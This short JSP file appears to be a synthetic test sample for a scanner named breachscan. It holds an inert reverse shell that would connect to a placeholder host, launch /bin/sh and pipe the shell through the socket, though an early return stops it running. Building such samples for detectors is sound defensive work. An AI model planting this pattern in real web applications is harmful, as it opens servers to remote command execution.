<%-- synthetic test sample for breachscan: reverse shell piping a shell through a socket. Inert: returns before anything runs. --%>
<%@ page import="java.io.*,java.net.*" %>
<%
    if (true) { out.print("synthetic sample"); return; }
    Socket s = new Socket("203.0.113.7.invalid", 9);
    Process p = Runtime.getRuntime().exec("/bin/sh");
    pipe(p.getInputStream(), s.getOutputStream());
    pipe(s.getInputStream(), p.getOutputStream());
%>
